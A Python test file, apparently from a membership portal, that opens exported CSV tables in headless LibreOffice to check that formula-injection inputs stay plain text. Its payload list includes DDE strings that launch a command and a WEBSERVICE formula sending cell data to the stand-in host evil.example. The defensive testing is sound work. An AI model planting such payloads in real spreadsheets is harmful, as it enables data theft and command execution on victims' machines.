"""The tables of an answer in a real spreadsheet program: nothing is computed, nothing is lost."""

import subprocess
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from portal.spreadsheet import harmless
from tests.personas import MARIE

PAYLOADS = (
    "=1+1", "=SUM(A1:A9)", '=HYPERLINK("https://evil.example";"Ouvrir")', '=WEBSERVICE("https://evil.example/"&A1)',
    "=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', "=IMPORTXML(A1)", "==1+1", "+1+1", "+SUM(A1)", "-2+3",
    "-cmd|x!A0", "@SUM(1+1)", "@cmd", "\t=1+1", "\r=1+1", "=1+1;2", '="a"&"b"', "=A1\n=A2", "=\u00a01+1",
)  # fmt: skip
AS_WE_WRITE_THEM = "CSV:59,34,76,1,,0,false,true,false,false,false,0,true,false,true"
"""Semicolons, quotes, UTF-8; numbers and formulas are recognised, as when somebody opens the file."""
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


@pytest.fixture
def seen(tmp_path):
    """The cells of tables as LibreOffice has them: what is shown, the type, and the formula."""

    def open_all(*tables: Path) -> dict[str, list[tuple[str, str, str | None]]]:
        subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{tmp_path}/office", "--headless", "--convert-to", "fods",
             f"--infilter={AS_WE_WRITE_THEM}", "--outdir", tmp_path / "opened", *tables],
            check=True, capture_output=True, timeout=120,
        )  # fmt: skip
        return {table.name: _cells(tmp_path / "opened" / f"{table.stem}.fods") for table in tables}

    return open_all


def _cells(document: Path) -> list[tuple[str, str, str | None]]:
    return [
        ("\n".join("".join(line.itertext()) for line in cell.iter(f"{TEXT}p")),
         cell.get(f"{OFFICE}value-type", ""), cell.get(f"{TABLE}formula"))
        for cell in ET.parse(document).iter(f"{TABLE}table-cell")
    ]  # fmt: skip


async def test_what_somebody_typed_is_text_and_never_a_formula(built, opened, owner, seen, tmp_path) -> None:
    for payload in PAYLOADS:
        owner.execute(
            "INSERT INTO recorded_change (id, member_id, field_group, actor, reason) "
            "SELECT gen_random_uuid(), id, 'language', 'undo', %s FROM member WHERE number = %s",
            [payload, MARIE.number],
        )
    answer = await opened(await built())
    tables = [Path(answer.extract(name, tmp_path)) for name in answer.namelist() if name.endswith(".csv")]
    cells = seen(*tables)
    assert len(tables) > 10
    assert not [cell for table in cells.values() for cell in table if cell[2]]
    shown = {_squeezed(text) for text, kind, _ in cells["changes.csv"] if kind == "string"}
    assert {_squeezed(harmless(payload)) for payload in PAYLOADS} <= shown
    assert ("'06 12 34 56 78", "string", None) in cells["phones.csv"]
    assert "float" in {kind for _, kind, _ in cells["gifts.csv"]}, "amounts can be added up"


def test_without_our_mark_the_same_would_be_computed(seen, tmp_path) -> None:
    """Else the test above would prove nothing."""
    bare = tmp_path / "bare.csv"
    bare.write_text("a;b\n=1+1;x\n", encoding="utf-8-sig")
    assert [text for text, _, formula in seen(bare)["bare.csv"] if formula] == ["2"]


def _squeezed(text: str) -> str:
    """Without the white space, which XML does not keep as it was."""
    return "".join(text.split())
